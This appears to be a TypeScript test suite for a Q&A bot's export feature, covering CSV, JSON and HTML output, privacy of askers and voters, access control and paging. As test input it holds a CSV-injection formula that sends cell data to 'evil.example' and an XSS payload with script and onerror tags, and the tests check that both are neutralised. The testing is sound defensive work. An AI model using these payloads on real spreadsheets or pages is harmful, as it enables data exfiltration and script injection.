import assert from 'node:assert/strict';
import { ask } from '../../../bot/app/ask.ts';
import { publish } from '../../../bot/app/curate.ts';
import { answer, draft } from '../../../bot/app/lead.ts';
import { merge } from '../../../bot/app/merge.ts';
import { followUp, sign, withdraw } from '../../../bot/app/own.ts';
import { vote } from '../../../bot/app/vote.ts';
import { Exported } from '../../../bot/http/api/export.ts';
import { sample } from '../../store/samples.ts';
import { type App, channelOf, freshId, must, openApp } from '../../support/app.ts';
import { canariesOf, foundIn } from '../../support/canary.ts';
import { ana, CHANNEL, crowd, devi, ines, kofi, noor, omar, otto, type Person } from '../../support/cast.ts';
import { bearer, type DeskApi, openDeskApi } from '../../support/desk-api.ts';

const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"Click")';

describe('An export', () => {
  let app: App;
  let desk: DeskApi;
  beforeEach(async () => {
    app = await openApp();
    desk = await openDeskApi(app);
    await app.store.putChannel(channelOf());
  });
  afterEach(async () => {
    await desk.stop();
    await app.close();
  });

  const asks = async (person: Person, words: string, leader = ines) =>
    must(await ask(app.deps, app.hand(person), { submission: freshId(), leader: leader.aadObjectId, words })).id;
  const answers = async (question: string, words = 'It was empty.') =>
    must(await answer(app.deps, ines.aadObjectId, { question, submission: freshId(), words }));
  const publishes = async (id: string) => must(await publish(app.deps, kofi.aadObjectId, id, [CHANNEL.id]));

  async function file(kind: string, who: Person = kofi, query = ''): Promise<{ response: Response; text: string }> {
    const response = await fetch(`${desk.url}/api/export/${kind}${query}`, { headers: bearer(desk.token(who)) });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { response, text: bytes.toString('utf8') };
  }

  /** A whole life of several questions, in which people sign, vote, follow up, merge and withdraw. */
  async function lives(): Promise<void> {
    const [one, two, three] = [await asks(noor, HOSTILE), await asks(omar, 'Lyon, again?'), await asks(noor, 'Gone?')];
    must(await merge(app.deps, kofi.aadObjectId, two, one));
    must(await sign(app.deps, app.hand(omar), two, omar.name));
    for (const person of crowd) must(await vote(app.deps, app.hand(person), one, true));
    await app.counts();
    must(await draft(app.deps, devi.aadObjectId, { question: one, words: 'Antediluvian draft' }));
    await answers(one);
    must(await followUp(app.deps, app.hand(noor), { question: one, submission: freshId(), words: 'And then?' }));
    await publishes(one);
    must(await withdraw(app.deps, app.hand(noor), three));
  }

  for (const kind of ['csv', 'json', 'page'])
    it(`as ${kind} names nobody who asked, voted or signed, and shows no draft`, async () => {
      await lives();
      const { text } = await file(kind);
      assert.match(text, /It was empty/, 'The premise');
      for (const person of [noor, omar, ...crowd]) assert.deepEqual(foundIn(text, canariesOf(person)), [], person.name);
      assert.doesNotMatch(text, /Antediluvian/);
    });

  it('as a table opens in Excel as text: a mark for UTF-8, and no cell that is a formula', async () => {
    await lives();
    const { response, text } = await file('csv');
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="forthright\.csv"$/);
    assert.ok(text.startsWith('\uFEFF"Thread","State"'));
    assert.ok(text.includes(`"'${HOSTILE.replaceAll('"', '""')}"`));
    assert.doesNotMatch(text, /(^|[",;\r\n])[=+@-]/m);
  });

  it('as JSON has the shape that is documented, all but what was taken back, and says few where few voted', async () => {
    await lives();
    const whole = JSON.parse((await file('json')).text);
    assert.equal(whole.format, 'forthright 1');
    const threads = whole.threads.map((one: unknown) => Exported.parse(one));
    assert.deepEqual(threads.map(({ state }: { state: string }) => state).toSorted(), ['answered', 'merged']);
    const answered = threads.find(({ state }: { state: string }) => state === 'answered');
    assert.deepEqual(answered.alsoAsked, ['Lyon, again?']);
    assert.deepEqual(answered.channels, [CHANNEL.name]);
    assert.equal(answered.votes, crowd.length);
    assert.equal(threads.find(({ state }: { state: string }) => state === 'merged').votes, 0);
  });

  it('as a page holds the published ones alone, as text, and nothing that a browser would run or fetch', async () => {
    const [shown, hidden] = [
      await asks(noor, '<img src=x onerror=alert(1)><script>alert(2)</script>'),
      'Not published',
    ];
    await answers(shown, '<b>Bold</b> & "quoted"');
    await publishes(shown);
    const said = { question: shown, submission: freshId(), words: 'Nobody agreed to publish this' };
    must(await followUp(app.deps, app.hand(noor), said));
    await answers(await asks(noor, hidden));
    const { response, text } = await file('page');
    assert.match(response.headers.get('content-security-policy') ?? '', /default-src 'none'.*sandbox/);
    assert.doesNotMatch(text, /<img|<script|<b>|Not published|Nobody agreed/);
    assert.match(text, /&lt;script&gt;/);
    assert.match(text, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-/);
  });

  it('is of one leader, or of one topic, where that is wanted', async () => {
    await asks(noor, 'To Ines?');
    await asks(noor, 'To Otto?', otto);
    const { text } = await file('json', kofi, `?leader=${otto.aadObjectId}`);
    assert.match(text, /To Otto/);
    assert.doesNotMatch(text, /To Ines/);
  });

  it('is for curators', async () => {
    for (const who of [noor, ines, ana]) assert.equal((await file('csv', who)).response.status, 403, who.name);
  });

  it('reads a page at a time, and only as fast as it is taken', async () => {
    await Promise.all(Array.from({ length: 450 }, () => app.store.add(sample())));
    const pages: number[] = [];
    const all = app.store.all.bind(app.store);
    app.store.all = async (page) => {
      const questions = await all(page);
      pages.push(questions.length);
      return questions;
    };
    assert.equal(JSON.parse((await file('json')).text).threads.length, 450);
    assert.deepEqual(pages, [200, 200, 50]);
  });

  it('that fails on the way is cut, so that half of it never looks whole', async () => {
    await asks(noor, 'One?');
    app.store.all = () => Promise.reject(new Error('The store is gone'));
    await assert.rejects(file('json'));
    assert.equal(app.faults.length, 1);
  });
});
